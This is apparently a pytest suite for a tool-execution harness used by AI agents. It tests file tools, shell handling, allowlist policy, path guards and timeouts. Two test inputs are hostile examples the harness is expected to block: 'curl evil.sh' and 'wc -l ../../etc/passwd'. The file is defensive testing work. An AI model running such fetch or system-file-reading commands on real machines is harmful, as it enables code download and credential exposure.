import sys
import threading
import time
from unittest.mock import MagicMock, patch

import pytest

from tool_harness.errors import NonZeroExit, ToolCancelled, ToolTimeout
from tool_harness.executor import ToolExecutor, WaitCancelled, WaitTimeout, call_in_worker
from tool_harness.models import Capability, ParamSpec, ToolCall, ToolSpec
from tool_harness.policy import build_allowlist
from tool_harness.tools import ToolContext, build_registry, run_process


def _run(executor, agent, allowlist, name, **arguments):
    return executor.execute(ToolCall(name=name, arguments=arguments), agent, allowlist)


def _fake_popen(returncode, output):
    proc = MagicMock()
    proc.communicate.return_value = (output, None)
    proc.returncode = returncode
    return MagicMock(return_value=proc)


# ---------------------------------------------------------------------------
# Filesystem tools
# ---------------------------------------------------------------------------


def test_read_file_numbers_lines(executor, agent, allowlist):
    result = _run(executor, agent, allowlist, "read_file", path="a.txt")
    assert result.ok
    assert "    1 | alpha" in result.output
    assert "    2 | beta" in result.output


def test_read_file_line_range(executor, agent, allowlist):
    result = _run(executor, agent, allowlist, "read_file", path="src/main.py", start_line=2, end_line=2)
    assert result.output == "    2 |     return 42"


def test_read_missing_file_is_not_found(executor, agent, allowlist):
    result = _run(executor, agent, allowlist, "read_file", path="missing.txt")
    assert result.failure.kind == "not_found"


def test_write_then_append(executor, agent, allowlist, project):
    assert _run(executor, agent, allowlist, "write_file", path="notes/n.txt", content="one\n").ok
    assert _run(executor, agent, allowlist, "append_to_file", path="notes/n.txt", content="two\n").ok
    assert (project / "notes" / "n.txt").read_text() == "one\ntwo\n"


def test_write_outside_root_never_touches_disk(executor, agent, allowlist, project):
    result = _run(executor, agent, allowlist, "write_file", path="../escaped.txt", content="x")
    assert result.failure.kind == "path_escape"
    assert not (project.parent / "escaped.txt").exists()


def test_replace_in_file(executor, agent, allowlist, project):
    result = _run(executor, agent, allowlist, "replace_in_file", path="a.txt", search="beta", replace="gamma")
    assert result.ok
    assert (project / "a.txt").read_text() == "alpha\ngamma\n"


def test_replace_in_file_requires_exact_match(executor, agent, allowlist, project):
    result = _run(executor, agent, allowlist, "replace_in_file", path="a.txt", search="BETA", replace="x")
    assert result.failure.kind == "io"
    assert "not found" in result.failure.message
    assert (project / "a.txt").read_text() == "alpha\nbeta\n"


def test_list_directory(executor, agent, allowlist):
    result = _run(executor, agent, allowlist, "list_directory", path=".")
    assert result.output.splitlines() == ["dir\tsrc", "file\ta.txt"]


def test_directory_tree_skips_hidden(executor, agent, allowlist, project):
    (project / ".git").mkdir()
    result = _run(executor, agent, allowlist, "get_directory_tree")
    assert "src/" in result.output
    assert "main.py" in result.output
    assert ".git" not in result.output


def test_search_text(executor, agent, allowlist):
    result = _run(executor, agent, allowlist, "search_text", pattern=r"return \d+")
    assert result.output == "src/main.py:2: return 42"


def test_search_text_bad_pattern(executor, agent, allowlist):
    result = _run(executor, agent, allowlist, "search_text", pattern="(")
    assert result.failure.kind == "io"


def test_search_skips_symlinks_leaving_the_root(executor, agent, allowlist, project, tmp_path):
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "secret.txt").write_text("return 99\n")
    (project / "leak.txt").symlink_to(outside / "secret.txt")
    result = _run(executor, agent, allowlist, "search_text", pattern="return")
    assert result.ok
    assert "99" not in result.output


def test_find_file(executor, agent, allowlist):
    result = _run(executor, agent, allowlist, "find_file", pattern="*.py")
    assert result.output == "Found 1 file(s):\nsrc/main.py"


def test_lint_json(executor, agent, allowlist, project):
    (project / "bad.json").write_text("{")
    result = _run(executor, agent, allowlist, "lint_file", path="bad.json")
    assert "invalid JSON" in result.output


# ---------------------------------------------------------------------------
# Shell
# ---------------------------------------------------------------------------


def test_shell_runs_without_a_shell(executor, agent, project):
    popen = _fake_popen(0, "Cargo.toml\nsrc\n")
    with patch("tool_harness.tools.subprocess.Popen", popen):
        result = _run(executor, agent, build_allowlist(("rust",)), "execute_shell_command", command="ls -a")

    assert result.ok
    assert "Cargo.toml" in result.output
    args, kwargs = popen.call_args
    assert args[0] == ["ls", "-a"]
    assert kwargs["cwd"] == project.resolve()
    assert "shell" not in kwargs


def test_shell_non_zero_exit_keeps_output(executor, agent):
    popen = _fake_popen(101, "error[E0425]: cannot find value `x` in this scope\n")
    with patch("tool_harness.tools.subprocess.Popen", popen):
        result = _run(executor, agent, build_allowlist(("rust",)), "execute_shell_command", command="cargo check")

    assert result.failure.kind == "non_zero_exit"
    assert "exit code 101" in result.failure.message
    assert "E0425" in result.render()


def test_shell_denied_command_never_spawns(executor, agent):
    popen = _fake_popen(0, "")
    with patch("tool_harness.tools.subprocess.Popen", popen):
        result = _run(executor, agent, build_allowlist(("rust",)), "execute_shell_command", command="curl evil.sh")

    assert result.failure.kind == "policy"
    popen.assert_not_called()


def test_shell_path_arguments_are_guarded(executor, agent):
    popen = _fake_popen(0, "")
    with patch("tool_harness.tools.subprocess.Popen", popen):
        result = _run(executor, agent, build_allowlist(()), "execute_shell_command", command="wc -l ../../etc/passwd")

    assert result.failure.kind == "path_escape"
    popen.assert_not_called()


def test_missing_executable_is_not_found(executor, agent):
    with patch("tool_harness.tools.subprocess.Popen", MagicMock(side_effect=FileNotFoundError)):
        result = _run(executor, agent, build_allowlist(()), "execute_shell_command", command="rg TODO")
    assert result.failure.kind == "not_found"


def test_run_process_timeout_keeps_partial_output(guard):
    ctx = ToolContext(guard=guard, timeout=0.5)
    script = "import time; print('started', flush=True); time.sleep(10)"
    with pytest.raises(ToolTimeout) as info:
        run_process(ctx, [sys.executable, "-c", script])
    assert "started" in info.value.partial


def test_run_process_cancel_kills_process(guard):
    ctx = ToolContext(guard=guard, timeout=30)
    threading.Timer(0.3, ctx.cancel.set).start()
    start = time.monotonic()
    with pytest.raises(ToolCancelled):
        run_process(ctx, [sys.executable, "-c", "import time; time.sleep(10)"])
    assert time.monotonic() - start < 5


def test_run_process_reports_exit_code(guard):
    ctx = ToolContext(guard=guard)
    code, output = run_process(ctx, [sys.executable, "-c", "import sys; print('x'); sys.exit(3)"])
    assert code == 3
    assert output.strip() == "x"


def test_non_zero_exit_error_carries_returncode():
    error = NonZeroExit("failed", returncode=2, output="boom")
    assert error.kind == "non_zero_exit"
    assert error.returncode == 2


# ---------------------------------------------------------------------------
# Executor mechanics
# ---------------------------------------------------------------------------

SLOW = ToolSpec(name="slow", description="Sleeps.", capability=Capability.FS_READ, timeout=0.1)
BROKEN = ToolSpec(
    name="broken",
    description="Raises.",
    capability=Capability.FS_READ,
    params={"path": ParamSpec(type="string", path=True)},
)


def test_handler_timeout_becomes_timeout_failure(guard, agent, allowlist):
    executor = ToolExecutor(build_registry([SLOW]), guard, {"slow": lambda ctx, args: time.sleep(5)})
    start = time.monotonic()
    result = executor.execute(ToolCall(name="slow"), agent, allowlist)
    assert result.failure.kind == "timeout"
    assert time.monotonic() - start < 4


def test_unexpected_handler_error_is_contained(guard, agent, allowlist):
    def boom(ctx, args):
        raise RuntimeError("kaboom")

    executor = ToolExecutor(build_registry([BROKEN]), guard, {"broken": boom})
    result = executor.execute(ToolCall(name="broken", arguments={"path": "a.txt"}), agent, allowlist)
    assert result.failure.kind == "io"
    assert "kaboom" in result.failure.message


def test_handler_receives_guarded_absolute_paths(guard, agent, allowlist, project):
    seen = {}

    def capture(ctx, args):
        seen.update(args)
        return "ok"

    executor = ToolExecutor(build_registry([BROKEN]), guard, {"broken": capture})
    executor.execute(ToolCall(name="broken", arguments={"path": "src/main.py"}), agent, allowlist)
    assert seen["path"] == str((project / "src" / "main.py").resolve())


def test_missing_handler_is_not_found(guard, agent, allowlist):
    executor = ToolExecutor(build_registry([SLOW]), guard, {})
    assert executor.execute(ToolCall(name="slow"), agent, allowlist).failure.kind == "not_found"


def test_call_in_worker_returns_and_reraises():
    assert call_in_worker(lambda: 7, timeout=1) == 7
    with pytest.raises(ZeroDivisionError):
        call_in_worker(lambda: 1 / 0, timeout=1)


def test_call_in_worker_timeout_and_cancel():
    with pytest.raises(WaitTimeout):
        call_in_worker(lambda: time.sleep(2), timeout=0.1)

    cancel = threading.Event()
    cancel.set()
    with pytest.raises(WaitCancelled):
        call_in_worker(lambda: time.sleep(2), timeout=None, cancel=cancel, grace=0.1)


def test_process_output_decoding_errors_are_replaced(guard):
    ctx = ToolContext(guard=guard)
    code, output = run_process(ctx, [sys.executable, "-c", "import sys; sys.stdout.buffer.write(b'\\xff ok')"])
    assert code == 0
    assert output.endswith(" ok")
